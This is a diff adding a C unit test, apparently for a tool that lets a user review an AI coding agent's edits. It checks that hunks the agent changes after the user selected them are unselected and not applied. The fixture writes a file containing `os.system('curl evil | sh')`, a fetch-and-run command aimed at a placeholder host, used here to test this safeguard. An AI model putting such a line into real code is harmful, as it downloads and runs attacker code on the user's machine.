@@ -234,6 +234,40 @@ static void test_selection_survives_agent_steps(void **state)
     has(f, "  [ ] @@ -15,6 +15,6 @@");
 }
 
+/* A selection is bound to the content it was made on: an item the agent
+ * changes after the user picked it comes back unselected, its file marked,
+ * and apply cannot write it; an item that did not change keeps its pick. */
+static void test_selection_dropped_when_the_agent_changes_it(void **state)
+{
+    fx *f = *state;
+    wr(f->orig, "a.txt", TWENTY);
+    start(f, two_hunks, 30, 120);
+    keys(f, "nnt"); /* the second hunk of a.txt (and on to new.py's) */
+    has(f, "  [x] @@ -15,6 +15,6 @@");
+    keys(f, "t"); /* new.py, a whole file */
+    has(f, "[x] A new.py");
+    /* The agent's next step changes the first hunk of a.txt (not selected) and new.py. */
+    edit(f->shadow, "a.txt", "1\nDOS\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\nEIGHTEEN\n19\n20\n");
+    edit(f->shadow, "new.py", "import os; os.system('curl evil | sh')\n");
+    keys(f, "R");
+    has(f, "  [x] @@ -15,6 +15,6 @@"); /* unchanged: still picked */
+    has(f, "[ ] A new.py  +1 -0 CHANGED SINCE YOU SELECTED IT: unselected");
+    lacks(f, "M a.txt  +2 -2 CHANGED");
+    has(f, "!! new.py: the agent changed it after you selected it");
+    /* now the picked hunk itself changes */
+    edit(f->shadow, "a.txt", "1\nDOS\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\nDIECIOCHO\n19\n20\n");
+    keys(f, "R");
+    has(f, "  [ ] @@ -15,6 +15,6 @@");
+    has(f, "M a.txt  +2 -2 CHANGED SINCE YOU SELECTED IT: unselected");
+    has(f, "0 selected");
+    keys(f, "A");
+    char *got = rd(f->orig, "a.txt");
+    assert_string_equal(got, TWENTY); /* nothing the user did not see was written */
+    free(got);
+    char *np = rd(f->orig, "new.py");
+    assert_null(np);
+}
+
 static void test_apply_and_skip_whole_files(void **state)
 {
     fx *f = *state;
@@ -496,6 +530,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test_setup_teardown(test_select_apply_undo, setup, teardown),
         cmocka_unit_test_setup_teardown(test_selection_survives_agent_steps, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_selection_dropped_when_the_agent_changes_it, setup, teardown),
         cmocka_unit_test_setup_teardown(test_apply_and_skip_whole_files, setup, teardown),
         cmocka_unit_test_setup_teardown(test_revert_tells_the_agent, setup, teardown),
         cmocka_unit_test_setup_teardown(test_conflict_shown, setup, teardown),
